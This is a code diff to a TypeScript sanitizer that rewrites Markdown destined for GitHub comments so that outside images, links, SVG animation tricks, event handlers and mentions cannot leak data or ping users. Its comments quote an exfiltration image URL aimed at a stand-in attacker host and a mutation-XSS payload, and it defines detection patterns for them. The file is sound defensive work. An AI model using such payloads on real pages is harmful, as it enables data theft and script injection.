@@ -7,10 +7,14 @@
  *   `allowed-domains`) become inline code: GitHub does not render them, so
  *   its image proxy never fetches `![x](https://attacker/?d=SECRET)` and
  *   nobody is one click from leaking. Covered: Markdown images and links,
- *   reference-style ones (their definitions too), `<autolinks>`, bare URLs
- *   GitHub links by itself, `data:` and other non-http schemes, and raw HTML
- *   whose attributes point elsewhere (`<img src>`, `<a href>`,
- *   `<source srcset>`, `<video poster>`, ...).
+ *   reference-style ones (their definitions too), `<autolinks>`, `data:` and
+ *   other non-http schemes, and raw HTML whose attributes point elsewhere
+ *   (`<img src>`, `<a href>`, `<source srcset>`, `<video poster>`, SVG
+ *   `<animate>` values, `on*` handlers, ...).
+ * - In plain text, whatever GitHub's renderer (cmark-gfm) would link by
+ *   itself is decided by what it links, not by what our parser links: any
+ *   `scheme://` (it links `ftp://` too), `www.`, `mailto:`, `xmpp:`, e-mail
+ *   addresses. The word becomes a code span; the prose around it stays.
  * - `@user` and `@org/team` get a zero-width space after the `@`, as
  *   Dependabot does in the release notes it quotes: the text reads the same
  *   and copies almost the same, but GitHub sees no mention and notifies
@@ -25,9 +29,18 @@
  * (parse5), the unsafe parts are rewritten, and the result is parsed again
  * until nothing unsafe is left. A rewrite that could combine with its
  * surroundings into something new is caught by the next pass; if a few
- * passes do not settle, the whole text is posted as one code block.
+ * passes do not settle, each top-level block still unsafe is posted as a
+ * fenced code block (the whole text, if that does not settle either). The
+ * fallback is always code, never an invisible character.
+ *
+ * Bounded: before any parse the text is cut to the length limit and every
+ * construct past a small depth or length is escaped (src/markdown-bounds.ts),
+ * so the cost is linear and no input overflows the stack; a parser that
+ * throws anyway fails closed (the text as a code block).
+ * test/security/posting-corpus.test.ts judges the result as GitHub renders it.
  */
 import type { Html, Nodes, Parent, Text } from "mdast";
+import { boundMarkdown } from "../markdown-bounds.js";
 import { applyEdits, childrenOf, definitionsOf, parseHtml, parseMarkdown, rangeOf, walkHtml, type Edit, type HtmlElement } from "../markdown.js";
 import { hostAllowed, parseDomainRules, type DomainRule } from "../shared/domains.js";
 import { inlineCode } from "../text.js";
@@ -100,12 +113,25 @@ function srcsetUrls(value: string): string[] {
     .filter(Boolean);
 }
 
+/** SVG animation attributes whose values a browser assigns to the attribute `attributeName` names. */
+const ANIMATION_VALUES = new Set(["values", "from", "to", "by"]);
+/** Attributes that are unsafe whatever they say: script, or a whole document. */
+const ALWAYS_UNSAFE = /^(?:on|srcdoc$|http-equiv$)/;
+/** `scheme:rest` anywhere in a value (`0;url=ftp:x`, `javascript:`), `//host`, or a CSS function that loads. */
+const SCHEME_IN_VALUE = /[a-z][a-z0-9+.-]*:[^\s"'<>;,)]+|\/\/[^\s"'<>;,)]+/gi;
+const CSS_LOADS = /url\s*\(|image(?:-set)?\s*\(|@import|expression\s*\(|\\/i;
+
 function attributeUnsafe(name: string, value: string, c: Compiled): boolean {
   const n = name.toLowerCase();
+  if (ALWAYS_UNSAFE.test(n)) return true;
   if (n === "srcset" || n === "imagesrcset") return srcsetUrls(value).some((u) => !urlAllowed(u, c));
   if (URL_ATTRIBUTES.has(n) || n.endsWith(":href")) return !urlAllowed(value, c);
-  // Any other attribute that smuggles a URL (`style="background:url(//x)"`).
-  return /url\s*\(|\/\/|data:/i.test(value) && [...value.matchAll(/(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s"'()<>,]+|data:[^\s"'()<>,]*/gi)].some((m) => !urlAllowed(m[0], c));
+  // `<animate attributeName="href">` writes its values into a link; `values="a;b"` lists several.
+  if (n === "attributename") return URL_ATTRIBUTES.has(value.trim().toLowerCase()) || /href/i.test(value);
+  if (ANIMATION_VALUES.has(n)) return value.split(";").some((v) => /[:/\\]/.test(v) && !urlAllowed(v, c));
+  if (n === "style") return CSS_LOADS.test(value);
+  // Any other attribute that smuggles a URL (`content="0;url=//x"`).
+  return [...value.matchAll(SCHEME_IN_VALUE)].some((m) => !urlAllowed(m[0], c));
 }
 
 function elementUnsafe(el: HtmlElement, c: Compiled): boolean {
@@ -140,12 +166,18 @@ function breakMentions(source: string, c: Compiled): number[] {
 
 interface Scan {
   edits: Edit[];
-  /** Something unsafe that no edit could fix: the caller falls back to a code block. */
-  stuck: boolean;
+  /** Where something unsafe is that no edit could fix (NaN: nowhere known); that part falls back to a code block. */
+  stuck: number[];
 }
 
-/** URLs written anywhere in raw text: `scheme://host`, `//host`, `www.host`, `data:` (not those a zero-width space already broke). */
+/** URLs written anywhere in raw HTML: `scheme://host`, `//host`, `www.host`, `data:` (not those a zero-width space already broke). */
 const URL_IN_TEXT = /(?:[a-z][a-z0-9+.-]*:)?\/\/(?!\u200b)[^\s"'()<>,`\\]+|\bwww\.(?!\u200b)[^\s"'()<>,`\\]+|\bdata:/gi;
+/**
+ * What GitHub's renderer (cmark-gfm) links in plain text, and more: any
+ * `scheme://` (it links `http`, `https` and `ftp`), `www.`, `mailto:` and
+ * `xmpp:`, an e-mail address. Our parser links fewer, so this decides.
+ */
+const LINKABLE_TEXT = /[a-z][a-z0-9+.-]*:\/\/|www\.|(?:mailto|xmpp):|[\w.+-]@[a-z0-9-]+\.[a-z0-9]/i;
 
 function textHasOutsideUrl(text: string, c: Compiled): boolean {
   for (const m of text.matchAll(URL_IN_TEXT)) {
@@ -154,6 +186,13 @@ function textHasOutsideUrl(text: string, c: Compiled): boolean {
   }
   return false;
 }
+
+/**
+ * An event handler attribute anywhere in raw HTML, as text: parsers disagree
+ * on where `<noscript>`, `<style>` or foreign content ends (mutation XSS:
+ * `<noscript><!-- </noscript><img src=x onerror=…>`), so no tree is asked.
+ */
+const EVENT_HANDLER = /(?:^|[\s"'/])on[a-z]+\s*=/i;
 
 /**
  * Raw HTML. An element that loads or links elsewhere, or an outside URL
@@ -165,10 +204,10 @@ function textHasOutsideUrl(text: string, c: Compiled): boolean {
 function scanHtml(node: Html, parent: Parent | undefined, source: string, c: Compiled, out: Scan): void {
   const r = rangeOf(node);
   if (!r) {
-    out.stuck = true;
+    out.stuck.push(NaN);
     return;
   }
-  let unsafe = textHasOutsideUrl(node.value, c);
+  let unsafe = textHasOutsideUrl(node.value, c) || EVENT_HANDLER.test(node.value);
   if (!unsafe) walkHtml(parseHtml(node.value), (h) => void ("attrs" in h && elementUnsafe(h, c) && (unsafe = true)));
   const raw = source.slice(r.start, r.end);
   const mentions = !unsafe && raw === node.value && parent !== undefined && FLOW_PARENTS.has(parent.type) ? breakMentions(raw, c) : undefined;
@@ -191,90 +230,150 @@ function unescaped(source: string, ch: RegExp): number[] {
 }
 
 /**
- * Plain text, as our parser sees it. Mentions are broken. Because GitHub's
- * parser (cmark-gfm) does not agree with ours on every corner (it reads
- * `<img src=//x/y>` as HTML, ours as text), text that another parser could
- * read as a tag or a link is escaped, which renders the same for both, and
- * outside URLs in it get a zero-width space so nothing links them.
+ * A code span that pairs with nothing else in `source`: its fence is a run
+ * of backticks no other run in the text has, so an unmatched backtick
+ * nearby cannot take one of its ends.
  */
-function scanText(node: Text, source: string, c: Compiled, out: Scan): void {
+function spanFence(source: string): string {
+  const used = new Set([...source.matchAll(/`+/g)].map((m) => m[0].length));
+  let n = 1;
+  while (used.has(n)) n++;
+  return "`".repeat(n);
+}
+
+/** Each linkable thing in text, with the URL it would link to (`undefined`: never one we allow). */
+const LINKABLE_ALL = /[a-z][a-z0-9+.-]*:\/\/[^\s<>"'`]*|www\.[^\s<>"'`]*|(?:mailto|xmpp):|[\w.+-]@[a-z0-9-]+\.[a-z0-9]/gi;
+
+function outsideLinkable(text: string, c: Compiled): boolean {
+  for (const m of text.matchAll(LINKABLE_ALL)) {
+    const s = m[0];
+    if (/^www\./i.test(s) ? !urlAllowed(`https://${s}`, c) : !s.includes("//") || !urlAllowed(s, c)) return true;
+  }
+  return false;
+}
+
+/** Whitespace-free runs of a text node's source that could spell an outside link (`&#46;` and `\.` included). */
+function linkableRuns(slice: string, c: Compiled): { start: number; end: number }[] {
+  const runs: { start: number; end: number }[] = [];
+  for (const m of slice.matchAll(/\S+/g)) {
+    if (outsideLinkable(m[0], c) || /[&\\]/.test(m[0])) runs.push({ start: m.index, end: m.index + m[0].length });
+  }
+  return runs;
+}
+
+/**
+ * Plain text, as our parser sees it. Mentions are broken. Whatever GitHub's
+ * renderer would link in it (a bare `ftp://`, `www.`, an e-mail address)
+ * becomes a code span: not an invisible character, which a URL parser drops.
+ * Because GitHub's parser (cmark-gfm) does not agree with ours on every
+ * corner (it reads `<img src=//x/y>` as HTML, ours as text), text that
+ * another parser could read as a tag or a link is escaped, which renders
+ * the same for both.
+ */
+function scanText(node: Text, source: string, fence: string, c: Compiled, out: Scan): void {
   const r = rangeOf(node);
   const v = node.value;
   // Already escaped (`\<`, `&lt;`) is fine: only literal characters of the source are escaped below.
   const tagLike = /<[A-Za-z!/?]/.test(v);
   const linkLike = /\]\s*[([:]/.test(v);
   const mention = needsBreak(v, c);
-  const url = textHasOutsideUrl(v, c);
-  if (!tagLike && !linkLike && !mention && !url) return;
-  if (!r) {
-    out.stuck = true;
-    return;
-  }
+  const linkable = LINKABLE_TEXT.test(v) && outsideLinkable(v, c);
+  if (!tagLike && !linkLike && !mention && !linkable) return;
+  if (!r) return void out.stuck.push(NaN);
   const slice = source.slice(r.start, r.end);
-  const insert = (i: number, text: string) => out.edits.push({ start: r.start + i, end: r.start + i, text });
+  const runs = linkable ? linkableRuns(slice, c) : [];
+  if (linkable && !runs.length) out.stuck.push(r.start);
+  const inRun = (i: number) => runs.some((run) => i >= run.start && i < run.end);
+  const insert = (i: number, text: string) => void (inRun(i) || out.edits.push({ start: r.start + i, end: r.start + i, text }));
+  for (const run of runs) {
+    const text = slice.slice(run.start, run.end);
+    const pad = text.startsWith("`") || text.endsWith("`") ? " " : "";
+    out.edits.push({ start: r.start + run.start, end: r.start + run.end, text: `${fence}${pad}${text}${pad}${fence}` });
+  }
   if (tagLike) for (const i of unescaped(slice, /<(?=[A-Za-z!/?])/g)) insert(i, "\\");
   if (linkLike) for (const i of unescaped(slice, /\[/g)) insert(i, "\\");
   if (mention) {
-    const at = breakMentions(slice, c);
-    if (!at.length) out.stuck = true;
-    for (const i of at) insert(i, ZWSP);
-  }
-  if (url) {
-    const at = [...slice.matchAll(/\/\/(?!\u200b)|www\.(?!\u200b)/gi)].map((m) => m.index + m[0].length);
-    if (!at.length) out.stuck = true;
+    const at = breakMentions(slice, c).filter((i) => !inRun(i));
+    if (!at.length && !runs.length) out.stuck.push(r.start);
     for (const i of at) insert(i, ZWSP);
   }
 }
 
 /** What in `source` would render as an outside image or link, or ping someone. */
 function scan(source: string, c: Compiled): Scan {
-  const root = parseMarkdown(source);
+  const root = parseMarkdown(source, { exact: true });
   const defs = definitionsOf(root);
-  const out: Scan = { edits: [], stuck: false };
+  const fence = spanFence(source);
+  const out: Scan = { edits: [], stuck: [] };
   const asCode = (n: Nodes): void => {
     const r = rangeOf(n);
     if (r) out.edits.push({ ...r, text: inlineCode(source.slice(r.start, r.end)) });
-    else out.stuck = true;
+    else out.stuck.push(NaN);
   };
-  const walk = (n: Nodes, parent: Parent | undefined): void => {
+  // Without recursion: how deep the tree goes is the input's to choose.
+  const stack: [Nodes, Parent | undefined][] = [[root, undefined]];
+  while (stack.length) {
+    const [n, parent] = stack.pop()!;
     switch (n.type) {
       case "code":
       case "inlineCode":
-        return;
+        continue;
       case "image":
       case "link":
       case "definition":
-        if (!urlAllowed(n.url, c)) return asCode(n);
-        if (n.type !== "link") return;
+        if (!urlAllowed(n.url, c)) asCode(n);
+        if (n.type !== "link" || !urlAllowed(n.url, c)) continue;
         break;
       case "imageReference":
       case "linkReference": {
         const d = defs.get(n.identifier);
-        if (!d || !urlAllowed(d.url, c)) return asCode(n);
-        if (n.type === "imageReference") return;
+        if (!d || !urlAllowed(d.url, c)) asCode(n);
+        if (!d || !urlAllowed(d.url, c) || n.type === "imageReference") continue;
         break;
       }
       case "html":
-        return scanHtml(n, parent, source, c, out);
+        scanHtml(n, parent, source, c, out);
+        continue;
       case "text":
-        return scanText(n, source, c, out);
+        scanText(n, source, fence, c, out);
+        continue;
     }
-    for (const child of childrenOf(n)) walk(child, n as Parent);
-  };
-  walk(root, undefined);
+    for (const child of childrenOf(n)) stack.push([child, n as Parent]);
+  }
   return out;
+}
+
+/**
+ * The top-level blocks of `text` that hold something unsafe no rewrite
+ * fixed, each as a fenced code block; the rest stays as it is. Undefined
+ * when that does not leave the text clean either.
+ */
+function fenceUnsettled(text: string, c: Compiled): string | undefined {
+  const { edits, stuck } = scan(text, c);
+  const at = [...edits.map((e) => e.start), ...stuck];
+  if (at.some((i) => Number.isNaN(i))) return undefined;
+  const blocks = parseMarkdown(text, { exact: true }).children.map(rangeOf);
+  const fencedEdits: Edit[] = [];
+  for (const r of blocks) {
+    if (!r || !at.some((i) => i >= r.start && i < Math.max(r.end, r.start + 1))) continue;
+    fencedEdits.push({ ...r, text: fenced(text.slice(r.start, r.end), "text") });
+  }
+  if (!fencedEdits.length || blocks.some((r) => !r)) return undefined;
+  const out = applyEdits(text, fencedEdits);
+  const check = scan(out, c);
+  return check.edits.length || check.stuck.length ? undefined : out;
 }
 
 function neutralizeOnce(markdown: string, c: Compiled): string {
   let text = markdown;
   for (let pass = 0; pass < MAX_PASSES; pass++) {
     const { edits, stuck } = scan(text, c);
-    if (stuck) break;
+    if (stuck.length) break;
     if (!edits.length) return text;
     text = applyEdits(text, edits);
   }
-  // Did not settle: nothing in a code block renders, links, loads or pings.
-  return fenced(markdown, "text");
+  // Did not settle: the parts that did not go in code blocks, where nothing renders, links, loads or pings.
+  return fenceUnsettled(text, c) ?? fenced(markdown, "text");
 }
 
 /**
@@ -283,7 +382,17 @@ function neutralizeOnce(markdown: string, c: Compiled): string {
  * input is shortened and neutralized again when the rewriting made it longer).
  */
 export function neutralizeForGitHub(markdown: string, policy: PostTextPolicy, maxLength = COMMENT_LIMIT - 500): string {
-  const c = compile(policy);
+  try {
+    // The rewrite only lengthens the text: what is past the limit now would be cut anyway.
+    const input = markdown.length > maxLength ? `${markdown.slice(0, maxLength - 100)}\n\n… (truncated)` : markdown;
+    return neutralizeBounded(boundMarkdown(input), compile(policy), maxLength);
+  } catch {
+    // A parser that gives up (it should not: the input is bounded) fails closed.
+    return fenced(markdown.slice(0, maxLength - 100), "text");
+  }
+}
+
+function neutralizeBounded(markdown: string, c: Compiled, maxLength: number): string {
   let input = markdown;
   for (let attempt = 0; attempt < 3; attempt++) {
     const out = neutralizeOnce(input, c);
